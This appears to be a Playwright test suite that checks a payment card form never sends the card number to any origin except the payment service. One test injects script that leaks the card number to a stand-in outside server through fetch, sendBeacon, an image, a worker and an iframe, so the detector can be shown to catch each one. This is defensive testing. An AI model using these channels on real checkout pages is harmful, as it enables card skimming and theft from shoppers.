import { fillCard } from '@element-js/testing/playwright'
import type { BrowserContext } from '@playwright/test'
import { attackedCard } from '../support/attack-page.ts'
import { createToken, openCardPage, typeCard } from '../support/card-page.ts'
import { startCountingServer } from '../support/counting-server.ts'
import { makeLink, openCardForm } from '../support/links.ts'
import { expect, test } from '../support/sites.ts'

interface Network {
  /** The origins of all requests from the page, its frames and their workers. */
  origins(): string[]
  /** The addresses of requests with these digits. */
  receiversOf(digits: string): string[]
}

function watchNetwork(context: BrowserContext): Network {
  const asked: { url: string; sent: string }[] = []
  context.on('request', (request) => {
    const sent = `${request.url()} ${request.postData() ?? ''} ${JSON.stringify(request.headers())}`
    asked.push({ url: request.url(), sent: sent.replaceAll(/(?<=\d)[ -](?=\d)/g, '') })
  })
  context.on('page', (page) => page.on('websocket', (socket) => asked.push({ url: socket.url(), sent: '' })))
  return {
    origins: () => [...new Set(asked.map(({ url }) => new URL(url).origin))].toSorted(),
    receiversOf: (digits) => asked.filter(({ sent }) => sent.includes(digits)).map(({ url }) => url),
  }
}

test('from loading to the token, a page uses one origin besides its own, and one request contains the card', async ({
  context,
  merchant,
  service,
}) => {
  const network = watchNetwork(context)
  const page = await context.newPage()
  await openCardPage(page, merchant, { service: service.origin })
  await typeCard(page, attackedCard)
  expect(await createToken(page)).toMatchObject({ data: { card: { last4: '4305' } } })
  // Its own origin serves only the page itself.
  expect(network.origins()).toEqual([merchant.origin, service.origin].toSorted())
  expect(network.receiversOf(attackedCard.pan)).toEqual([`${service.origin}/v1/payments/tokens/card`])
})

test('from loading to the payment, the page of a link uses one origin', async ({ context, service }) => {
  const link = await makeLink(service)
  const network = watchNetwork(context)
  const page = await context.newPage()
  await openCardForm(page, link)
  await fillCard(page, attackedCard.pan, { expiration: '1230', cvv: '123', name: null })
  await page.getByRole('button', { name: /^Pay R\$/ }).click()
  await expect(page.getByRole('heading', { name: 'Payment complete. Thank you!' })).toBeVisible()
  expect(network.origins()).toEqual([service.origin])
  expect(network.receiversOf(attackedCard.pan)).toEqual([`${service.origin}/v1/payments/tokens/card`])
})

test('a request elsewhere is detected: from a page, a frame, a worker, a beacon', async ({
  context,
  merchant,
  service,
}) => {
  const elsewhere = await startCountingServer((_path, response) => {
    response.writeHead(200, { 'access-control-allow-origin': '*' }).end()
  })
  const network = watchNetwork(context)
  const page = await context.newPage()
  await openCardPage(page, merchant, { service: service.origin })
  await page.evaluate(
    ({ origin, digits }) => {
      void fetch(`${origin}/fetch`, { method: 'POST', body: digits })
      navigator.sendBeacon(`${origin}/beacon`, digits)
      new Image().src = `${origin}/image?${digits}`
      const script = `fetch('${origin}/worker?${digits}')`
      new Worker(URL.createObjectURL(new Blob([script])))
      document.body.append(
        Object.assign(document.createElement('iframe'), { srcdoc: `<img src="${origin}/frame?${digits}">` }),
      )
    },
    { origin: elsewhere.origin, digits: attackedCard.pan },
  )
  const paths = (): string[] =>
    network
      .receiversOf(attackedCard.pan)
      .map((url) => new URL(url).pathname)
      .toSorted()
  await expect.poll(paths).toEqual(['/beacon', '/fetch', '/frame', '/image', '/worker'])
  expect(network.origins()).toContain(elsewhere.origin)
  await elsewhere.stop()
})
